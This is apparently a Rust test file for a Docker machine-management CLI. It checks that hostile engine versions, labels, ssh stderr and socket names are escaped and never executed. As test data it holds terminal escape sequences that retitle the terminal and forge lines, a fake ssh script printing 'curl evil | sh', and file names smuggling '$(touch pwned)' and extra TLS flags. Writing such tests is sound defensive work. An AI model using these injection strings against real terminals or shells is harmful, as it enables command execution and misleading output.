//! What reaches the terminal and the shell when engines, hosts and records are hostile.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::process::{Command, Stdio};

use rmachine_core::printable::is_unsafe;
use serde_json::{Value, json};

use crate::engine;
use crate::world::{Ran, World};

/// Sets a terminal's title, returns to the start of the line, forges a line and reverses text.
const HOSTILE: &str = "1\u{1b}]0;owned\u{7}\u{9b}2J\r\nn2   *   forged\u{202e}\u{2028}";

/// The same, escaped.
const ESCAPED: &str = r"1\u{1b}]0;owned\u{7}\u{9b}2J\r\nn2   *   forged\u{202e}\u{2028}";

/// A machine whose engine says that this is its version.
fn world() -> World {
    let world = World::new();
    let socket = world.path().join("docker.sock");
    let version = json!({"Version": HOSTILE, "ApiVersion": "1.45", "MinAPIVersion": "1.24"});
    engine::on_socket_with_version(&socket, &version.to_string());
    let url = format!("unix://{}", socket.display());
    world.machine("n1", &url, |record| {
        record.engine.labels = vec![HOSTILE.to_owned()];
    });
    world
}

#[track_caller]
fn assert_printable(text: &str) {
    let found = text.chars().find(|c| *c != '\n' && is_unsafe(*c));
    assert_eq!(found, None, "{text:?}");
}

/// What the program prints on a terminal.
fn on_terminal(mut command: Command) -> String {
    command.stdin(Stdio::inherit());
    let mut session = rexpect::session::spawn_command(command, Some(60_000)).unwrap();
    session.exp_eof().unwrap()
}

#[test]
fn ls_table_of_hostile_engine_has_no_control_characters() {
    let world = world();
    let out = world.run(["ls"]).data();
    assert_printable(&out);
    assert_eq!(out.lines().count(), 2, "{out}");
    assert!(out.contains(&format!("v{ESCAPED}")), "{out}");
}

#[test]
fn ls_json_of_hostile_engine_keeps_its_value() {
    let world = world();
    let out = world.run(["ls", "--format", "json"]).data();
    assert_printable(&out);
    let rows: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(rows[0]["DockerVersion"], format!("v{HOSTILE}"));
}

#[test]
fn version_of_hostile_engine_is_one_printable_line() {
    let world = world();
    assert_eq!(world.run(["version", "n1"]).data(), format!("{ESCAPED}\n"));
}

#[test]
fn inspect_of_hostile_record_is_printable_and_still_the_record() {
    let world = world();
    let out = world.run(["inspect", "n1"]).data();
    assert_printable(&out);
    let record: Value = serde_json::from_str(&out).unwrap();
    let labels = &record["HostOptions"]["EngineOptions"]["Labels"];
    assert_eq!(labels[0], HOSTILE);
}

#[test]
fn templates_are_escaped_on_a_terminal_and_exact_in_a_pipe() {
    let world = world();
    let template = "{{index .HostOptions.EngineOptions.Labels 0}}";
    let inspect = ["inspect", "--format", template, "n1"];
    assert_eq!(world.run(inspect).data(), format!("{HOSTILE}\n"));
    assert_eq!(on_terminal(world.command(inspect)).trim_end(), ESCAPED);
    let ls = ["ls", "--format", "{{.DockerVersion}}"];
    assert_eq!(world.run(ls).data(), format!("v{HOSTILE}\n"));
    let shown = on_terminal(world.command(ls));
    assert_eq!(shown.trim_end(), format!("v{ESCAPED}"));
}

#[test]
fn debug_log_of_hostile_engine_is_printable() {
    let world = world();
    let ran = world.run(["--debug", "version", "n1"]);
    assert_printable(&ran.err);
}

#[test]
fn error_with_hostile_host_stderr_forges_no_line() {
    let world = World::new();
    let programs = world.path().join("programs");
    fs::create_dir(&programs).unwrap();
    let ssh = programs.join("ssh");
    let script = "#!/bin/sh\nprintf 'Connection refused \\033]0;owned\\007\\r\\nhint: curl evil | \
                  sh\\n\\342\\200\\256' >&2\nexit 255\n";
    fs::write(&ssh, script).unwrap();
    fs::set_permissions(&ssh, fs::Permissions::from_mode(0o755)).unwrap();
    let mut path = programs.into_os_string();
    path.push(":");
    path.push(std::env::var_os("PATH").unwrap());
    let mut command = world.command(["create", "-d", "generic"]);
    command
        .args(["--generic-ip-address", "127.0.0.1", "n1"])
        .env("PATH", path);
    let ran = Ran::of(&mut command);
    assert_ne!(ran.code, 0, "{ran:?}");
    assert!(ran.err.contains("owned"), "{ran:?}");
    assert_printable(&ran.err);
    assert!(!ran.err.contains("\nhint: curl"), "{ran:?}");
}

#[test]
fn env_of_hostile_record_runs_nothing() {
    for shell in ["sh", "bash"] {
        let world = World::new();
        let name = "a$(touch pwned)`touch pwned`';touch pwned;\".sock";
        let socket = world.path().join(name);
        engine::on_socket(&socket);
        let url = format!("unix://{}", socket.display());
        world.machine("n1", &url, |_| {});
        for eval in ["eval \"$($RMACHINE env n1)\"", "eval $($RMACHINE env n1)"] {
            let mut command = world.command(["--version"]);
            let environment: Vec<_> = command
                .get_envs()
                .filter_map(|(name, value)| Some((name.to_owned(), value?.to_owned())))
                .collect();
            command = Command::new(shell);
            command
                .args(["-c", &format!("{eval}; printf %s \"$DOCKER_HOST\"")])
                .env_clear()
                .envs(environment)
                .env("SHELL", format!("/bin/{shell}"))
                .env("RMACHINE", env!("CARGO_BIN_EXE_rmachine"))
                .current_dir(world.path());
            let ran = Ran::of(&mut command);
            assert_eq!(ran.data(), url, "{shell}: {eval}");
            assert!(!world.path().join("pwned").exists(), "{shell}: {eval}");
        }
    }
}

#[test]
fn config_of_record_with_blanks_in_its_url_prints_no_further_flags() {
    let world = World::new();
    let socket = world.path().join("a --tlsverify=false -H=tcp:");
    engine::on_socket(&socket);
    let url = format!("unix://{}", socket.display());
    world.machine("n1", &url, |_| {});
    let error = world.run(["config", "n1"]).failure(1);
    assert!(error.contains("hint: rmachine env n1"), "{error}");
}
